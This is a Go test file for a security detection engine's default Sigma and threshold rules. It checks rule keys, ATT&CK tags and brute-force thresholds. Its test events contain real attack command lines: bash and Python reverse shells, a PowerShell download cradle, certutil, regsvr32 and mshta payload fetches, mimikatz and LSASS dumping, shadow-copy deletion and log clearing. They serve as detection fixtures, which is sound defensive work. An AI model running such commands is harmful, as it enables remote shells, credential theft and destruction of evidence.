package detect

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigilhq/vigil/internal/event"
)

// TestDefaultRuleKeys pins the keys: tenants' rules and alerts refer to
// them, so one may be added, never renamed or dropped.
func TestDefaultRuleKeys(t *testing.T) {
	t.Parallel()
	want := []string{
		"sigma.lnx_history_tampering",
		"sigma.lnx_reverse_shell_cli",
		"sigma.lnx_reverse_shell_logged",
		"sigma.lnx_shadow_file_read",
		"sigma.lnx_ssh_root_login",
		"sigma.lnx_sudo_auth_failure",
		"sigma.win_certutil_download",
		"sigma.win_eventlog_clear_cli",
		"sigma.win_lsass_dump_comsvcs",
		"sigma.win_lsass_memory_access",
		"sigma.win_mimikatz_cli",
		"sigma.win_mshta_remote_script",
		"sigma.win_net_admin_group_add",
		"sigma.win_net_user_add",
		"sigma.win_office_child_shell",
		"sigma.win_powershell_download_cradle",
		"sigma.win_powershell_encoded_command",
		"sigma.win_powershell_offensive_scriptblock",
		"sigma.win_regsvr32_scriptlet",
		"sigma.win_security_log_cleared",
		"sigma.win_service_install_suspicious",
		"sigma.win_shadow_copy_deletion",
		"sigma.win_whoami_as_system",
		"threshold.password_spraying",
		"threshold.ssh_brute_force",
		"threshold.success_after_failures",
	}
	var got []string
	for _, r := range DefaultRules() {
		got = append(got, r.Key)
	}
	for _, k := range want {
		if !slices.Contains(got, k) {
			t.Errorf("default rule %q is gone: keys are never renamed or dropped", k)
		}
	}
	for _, k := range got {
		if !slices.Contains(want, k) {
			t.Errorf("new default rule %q: add its key to this list", k)
		}
	}
}

func TestDefaultRulesWellFormed(t *testing.T) {
	t.Parallel()
	attack, _ := sharedAttack(t)
	ids := map[string]bool{}
	names := map[string]bool{}
	for _, r := range DefaultRules() {
		t.Run(r.Key, func(t *testing.T) {
			if r.Name == "" || r.Description == "" || r.Definition == "" {
				t.Errorf("name, description and definition are required: %+v", r)
			}
			if names[r.Name] {
				t.Errorf("name %q is used twice", r.Name)
			}
			names[r.Name] = true
			switch r.Severity {
			case SeverityLow, SeverityMedium, SeverityHigh, SeverityCritical:
			default:
				t.Errorf("severity %q", r.Severity)
			}
			switch r.Kind {
			case KindSigma:
				s, err := CompileSigma([]byte(r.Definition))
				if err != nil {
					t.Fatal(err)
				}
				if ids[s.ID] || s.ID == "" {
					t.Errorf("Sigma id %q missing or used twice", s.ID)
				}
				ids[s.ID] = true
				if s.Author != "Vigil" {
					t.Errorf("author %q: the pack holds Vigil's own rules", s.Author)
				}
			case KindThreshold:
				if _, err := CompileThreshold([]byte(r.Definition)); err != nil {
					t.Fatal(err)
				}
			default:
				t.Errorf("kind %q", r.Kind)
			}
			techniques := attack.Techniques(r.Tags)
			if len(techniques) == 0 {
				t.Errorf("no ATT&CK technique among tags %v", r.Tags)
			}
			if attack != nil {
				for _, tech := range techniques {
					if tech.Name == "" || tech.Revoked || tech.Deprecated {
						t.Errorf("tag for %s: unknown, revoked or deprecated technique", tech.ID)
					}
				}
			}
		})
	}
}

func TestDefaultRulesAreCopies(t *testing.T) {
	t.Parallel()
	a := DefaultRules()
	a[0].Tags[0] = "changed"
	a[0].Name = "changed"
	if b := DefaultRules(); b[0].Tags[0] == "changed" || b[0].Name == "changed" {
		t.Error("DefaultRules hands out shared state")
	}
}

// TestDefaultSigmaRulesDetect runs the pack's Sigma rules, as one set, on
// events in the normaliser's shape: each rule fires on its attack and
// stays quiet on the nearby benign activity.
func TestDefaultSigmaRulesDetect(t *testing.T) {
	t.Parallel()
	var rules []*SigmaRule
	keyOf := map[*SigmaRule]string{}
	for _, d := range DefaultRules() {
		if d.Kind != KindSigma {
			continue
		}
		r, err := CompileSigma([]byte(d.Definition))
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, r)
		keyOf[r] = d.Key
	}
	set := NewSigmaSet(rules)

	const (
		alice      = `CORP\alice`
		system     = `NT AUTHORITY\SYSTEM`
		cmd        = `C:\Windows\System32\cmd.exe`
		explorer   = `C:\Windows\explorer.exe`
		powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		word       = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	)
	linuxProcess := func(exe, cmdline string) event.Event {
		return ecsEvent(map[string]any{
			"host.os.type": "linux", "host.name": "web01",
			"event.category": []any{"process"}, "event.type": []any{"start"},
			"process.executable": exe, "process.command_line": cmdline, "user.name": "www-data",
		})
	}
	lsassAccess := func(source, access string) event.Event {
		return windowsEvent(sysmonChannel, 10, map[string]any{
			"SourceImage": source, "TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": access,
		})
	}
	serviceInstall := func(path string) event.Event {
		return windowsEvent("System", 7045, map[string]any{"ServiceName": "updsvc", "ImagePath": path})
	}
	scriptBlock := func(text string) event.Event {
		return windowsEvent("Microsoft-Windows-PowerShell/Operational", 4104, map[string]any{"ScriptBlockText": text})
	}

	tests := []struct {
		name string
		ev   event.Event
		want []string
	}{
		{"mimikatz modules", sysmonProcess(`C:\Users\Public\m.exe`, `m.exe privilege::debug sekurlsa::logonpasswords exit`, cmd, alice), []string{"sigma.win_mimikatz_cli"}},
		{"mimikatz binary", securityProcess(`C:\Temp\mimikatz.exe`, `mimikatz.exe`, cmd, "alice"), []string{"sigma.win_mimikatz_cli"}},
		{"comsvcs minidump", sysmonProcess(`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 672 C:\Temp\out.dmp full`, cmd, system), []string{"sigma.win_lsass_dump_comsvcs"}},
		{"rundll32 shell32", sysmonProcess(`C:\Windows\System32\rundll32.exe`, `rundll32.exe shell32.dll,Control_RunDLL`, explorer, alice), nil},
		{"certutil download", sysmonProcess(`C:\Windows\System32\certutil.exe`, `certutil.exe /urlcache /split /f http://198.51.100.4/p.exe C:\Users\Public\p.exe`, cmd, alice), []string{"sigma.win_certutil_download"}},
		{"certutil hash", sysmonProcess(`C:\Windows\System32\certutil.exe`, `certutil -hashfile setup.exe SHA256`, cmd, alice), nil},
		{"encoded powershell", sysmonProcess(powershell, `powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AA==`, explorer, alice), []string{"sigma.win_powershell_encoded_command"}},
		{"encoded powershell, slash", sysmonProcess(powershell, `powershell.exe /ec SQBFAFgA`, explorer, alice), []string{"sigma.win_powershell_encoded_command"}},
		{"plain powershell script", sysmonProcess(powershell, `powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1`, explorer, alice), nil},
		{"download cradle", sysmonProcess(powershell, `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')"`, cmd, alice), []string{"sigma.win_powershell_download_cradle"}},
		{"download only", sysmonProcess(powershell, `powershell -c "Invoke-WebRequest https://example.org/setup.msi -OutFile setup.msi"`, cmd, alice), nil},
		{"whoami as system", sysmonProcess(`C:\Windows\System32\whoami.exe`, `whoami`, cmd, system), []string{"sigma.win_whoami_as_system"}},
		{"whoami as alice", sysmonProcess(`C:\Windows\System32\whoami.exe`, `whoami /groups`, cmd, alice), nil},
		{"net user add", sysmonProcess(`C:\Windows\System32\net.exe`, `net user support P@ssw0rd1 /add`, cmd, alice), []string{"sigma.win_net_user_add"}},
		{"net user query", sysmonProcess(`C:\Windows\System32\net.exe`, `net user alice /domain`, cmd, alice), nil},
		{"net localgroup add", sysmonProcess(`C:\Windows\System32\net1.exe`, `net1 localgroup administrators support /add`, cmd, alice), []string{"sigma.win_net_admin_group_add"}},
		{"vssadmin delete", sysmonProcess(`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe Delete Shadows /All /Quiet`, cmd, system), []string{"sigma.win_shadow_copy_deletion"}},
		{"bcdedit recovery off", sysmonProcess(`C:\Windows\System32\bcdedit.exe`, `bcdedit /set {default} recoveryenabled No`, cmd, system), []string{"sigma.win_shadow_copy_deletion"}},
		{"vssadmin list", sysmonProcess(`C:\Windows\System32\vssadmin.exe`, `vssadmin list shadows`, cmd, system), nil},
		{"word spawns powershell", sysmonProcess(powershell, `powershell -w hidden -c whoami`, word, alice), []string{"sigma.win_office_child_shell"}},
		{"word spawns cmd", sysmonProcess(cmd, `cmd.exe /c start calc`, word, alice), []string{"sigma.win_office_child_shell"}},
		{"word opens a document", sysmonProcess(word, `WINWORD.EXE /n report.docx`, explorer, alice), nil},
		{"regsvr32 scriptlet", sysmonProcess(`C:\Windows\System32\regsvr32.exe`, `regsvr32 /s /n /u /i:http://198.51.100.4/x.sct scrobj.dll`, cmd, alice), []string{"sigma.win_regsvr32_scriptlet"}},
		{"regsvr32 a dll", sysmonProcess(`C:\Windows\System32\regsvr32.exe`, `regsvr32 /s C:\Program Files\App\app.dll`, cmd, alice), nil},
		{"mshta remote", sysmonProcess(`C:\Windows\System32\mshta.exe`, `mshta http://198.51.100.4/a.hta`, explorer, alice), []string{"sigma.win_mshta_remote_script"}},
		{"wevtutil clear", sysmonProcess(`C:\Windows\System32\wevtutil.exe`, `wevtutil cl Security`, cmd, system), []string{"sigma.win_eventlog_clear_cli"}},
		{"wevtutil query", sysmonProcess(`C:\Windows\System32\wevtutil.exe`, `wevtutil qe Security /c:5`, cmd, system), nil},
		{"lsass read by a tool", lsassAccess(`C:\Users\alice\Downloads\procdump64.exe`, "0x1fffff"), []string{"sigma.win_lsass_memory_access"}},
		{"lsass read by windows", lsassAccess(`C:\Windows\System32\svchost.exe`, "0x1410"), nil},
		{"lsass queried", lsassAccess(`C:\Users\alice\app.exe`, "0x1000"), nil},
		{"security log cleared", windowsEvent(securityChannel, 1102, map[string]any{"SubjectUserName": "alice"}), []string{"sigma.win_security_log_cleared"}},
		{"security logon", windowsEvent(securityChannel, 4624, nil), nil},
		{"service runs powershell", serviceInstall(`%COMSPEC% /c powershell -nop -w hidden -enc SQBFAFgA`), []string{"sigma.win_service_install_suspicious"}},
		{"service from program files", serviceInstall(`"C:\Program Files\Vendor\agent.exe" -service`), nil},
		{"script block mimikatz", scriptBlock(`function Invoke-Mimikatz { param($Command) ... }`), []string{"sigma.win_powershell_offensive_scriptblock"}},
		{"script block admin", scriptBlock(`Get-Service | Where-Object Status -eq Running`), nil},
		{"cat shadow", linuxProcess("/usr/bin/cat", "cat /etc/shadow"), []string{"sigma.lnx_shadow_file_read"}},
		{"cat passwd", linuxProcess("/usr/bin/cat", "cat /etc/passwd"), nil},
		{"bash reverse shell", linuxProcess("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"), []string{"sigma.lnx_reverse_shell_cli"}},
		{"python reverse shell", linuxProcess("/usr/bin/python3", `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.9",4444));subprocess.call(["/bin/sh","-i"])'`), []string{"sigma.lnx_reverse_shell_cli"}},
		{"python server", linuxProcess("/usr/bin/python3", `python3 -m http.server 8000`), nil},
		{"history cleared", linuxProcess("/usr/bin/bash", "bash -c 'history -c'"), []string{"sigma.lnx_history_tampering"}},
		{"history linked to null", linuxProcess("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"), []string{"sigma.lnx_history_tampering"}},
		{"history read", linuxProcess("/usr/bin/less", "less /root/.bash_history"), nil},
		{"reverse shell in a log line", syslogEvent("bash", "HISTORY: PID=4242 UID=33 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", nil), []string{"sigma.lnx_reverse_shell_logged"}},
		{"sudo wrong passwords to root", syslogEvent("sudo", "alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash", nil), []string{"sigma.lnx_sudo_auth_failure"}},
		{"sudo pam failure", syslogEvent("sudo", "pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice", nil), []string{"sigma.lnx_sudo_auth_failure"}},
		{"sudo success", syslogEvent("sudo", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update", nil), nil},
		{"sudo failure text from another program", syslogEvent("cron", "user NOT in sudoers USER=root", nil), nil},
		{"root ssh login", syslogEvent("sshd", "Accepted password for root from 203.0.113.7 port 50122 ssh2", nil), []string{"sigma.lnx_ssh_root_login"}},
		{"user ssh login", syslogEvent("sshd", "Accepted publickey for alice from 198.51.100.2 port 50122 ssh2", nil), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var got []string
			for _, m := range set.Match(context.Background(), tt.ev) {
				got = append(got, keyOf[m.Rule])
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("matched %v, want %v (logsource %+v)", got, tt.want, LogsourceOf(tt.ev))
			}
		})
	}

	// Each Sigma rule of the pack is exercised above.
	for _, key := range keyOf {
		found := false
		for _, tt := range tests {
			if slices.Contains(tt.want, key) {
				found = true
			}
		}
		if !found {
			t.Errorf("no test event fires %s", key)
		}
	}
}

// TestDefaultThresholdRules plays authentication streams through the
// pack's threshold rules as the score job would: Filter, GroupKey, Hit,
// then Evaluate per group.
func TestDefaultThresholdRules(t *testing.T) {
	t.Parallel()
	rules := map[string]*ThresholdRule{}
	for _, d := range DefaultRules() {
		if d.Kind == KindThreshold {
			r, err := CompileThreshold([]byte(d.Definition))
			if err != nil {
				t.Fatal(err)
			}
			rules[d.Key] = r
		}
	}
	base := time.Date(2026, 8, 5, 3, 14, 0, 0, time.UTC)
	failures := func(ip string, users []string, n int, step time.Duration) []event.Event {
		out := make([]event.Event, n)
		for i := range out {
			out[i] = sshFailure(users[i%len(users)], ip, base.Add(time.Duration(i)*step))
			out[i].ID = ip + "/" + string(rune('a'+i))
		}
		return out
	}
	success := func(user, ip string, at time.Time) event.Event {
		ev := syslogEvent("sshd", "Accepted password for "+user+" from "+ip+" port 50122 ssh2", map[string]any{
			"event.category": []any{"authentication"}, "event.outcome": "success", "source.ip": ip, "user.name": user,
		})
		ev.Timestamp, ev.ID = at, ip+"/success"
		return ev
	}
	concat := func(lists ...[]event.Event) []event.Event { return slices.Concat(lists...) }
	const attacker, office = "203.0.113.7", "198.51.100.20"

	tests := []struct {
		name   string
		events []event.Event
		want   map[string][]string // rule key → group keys with a burst
	}{
		{
			"brute force",
			failures(attacker, []string{"root"}, 12, 20*time.Second),
			map[string][]string{"threshold.ssh_brute_force": {`source.ip="203.0.113.7"`}},
		},
		{
			"slow guessing stays under the threshold",
			failures(attacker, []string{"root"}, 12, time.Minute),
			nil,
		},
		{
			"password spraying",
			failures(attacker, []string{"root", "admin", "oracle", "postgres", "ubuntu", "test"}, 6, 30*time.Second),
			map[string][]string{"threshold.password_spraying": {`source.ip="203.0.113.7"`}, "threshold.success_after_failures": nil},
		},
		{
			"success after failures",
			concat(failures(attacker, []string{"admin"}, 6, 30*time.Second), []event.Event{success("admin", attacker, base.Add(4*time.Minute))}),
			map[string][]string{"threshold.success_after_failures": {`source.ip="203.0.113.7"`}},
		},
		{
			"a typo then a success, from the office",
			concat(failures(office, []string{"alice"}, 2, 10*time.Second), []event.Event{success("alice", office, base.Add(time.Minute))}),
			nil,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			for key, r := range rules {
				groups := map[string][]Hit{}
				for _, ev := range tt.events {
					if !r.Filter(ev) && !r.IsFollowUp(ev) {
						continue
					}
					g, _, ok := r.GroupKey(ev)
					if !ok {
						t.Fatalf("%s: no group for %v", key, ev.Fields)
					}
					groups[g] = append(groups[g], r.Hit(ev))
				}
				var got []string
				for g, hits := range groups {
					if len(r.Evaluate(hits, nil)) > 0 {
						got = append(got, g)
					}
				}
				if want := tt.want[key]; !slices.Equal(got, want) {
					t.Errorf("%s: bursts for groups %v, want %v", key, got, want)
				}
			}
		})
	}
}

func TestSeverityOfLevel(t *testing.T) {
	t.Parallel()
	for level, want := range map[string]string{
		"informational": SeverityLow, "low": SeverityLow, "medium": SeverityMedium,
		"HIGH": SeverityHigh, "critical": SeverityCritical, "": SeverityMedium,
	} {
		if got := SeverityOfLevel(level); got != want {
			t.Errorf("SeverityOfLevel(%q) = %q, want %q", level, got, want)
		}
	}
	if !strings.HasPrefix(DefaultRules()[0].Key, "sigma.") {
		t.Error("DefaultRules is not sorted by key")
	}
}
